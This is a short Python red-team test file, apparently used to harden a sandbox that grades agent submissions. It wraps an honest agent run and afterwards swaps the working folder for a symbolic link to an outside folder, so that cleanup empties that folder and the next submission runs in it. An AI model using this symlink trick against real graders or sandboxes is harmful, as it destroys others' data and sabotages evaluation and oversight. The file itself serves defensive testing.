# Red team: swap the work folder itself for a symbolic link to a folder outside (it lies inside the home
# folder, where the run may rename and create entries). Emptying the roots after the run followed the
# link, emptying the folder outside, and the next submission graded in the same sandbox ran in it.
import os

#@@INCLUDE:_common.py@@


def attack(when):
    here = os.getcwd()
    _try("rename", os.rename, here, os.path.join(os.path.dirname(here), "velho"))
    _try("symlink", os.symlink, "@@OUTSIDE@@", here)
    _try("rmdir", os.rmdir, here)
    _try("symlink2", os.symlink, "@@OUTSIDE@@", here)


#@@INCLUDE:_starter.py@@

_honest_run_agent = run_agent


def run_agent(task, tools, call_model, execute_tool):
    state = _honest_run_agent(task, tools, call_model, execute_tool)
    attack("end")
    return state
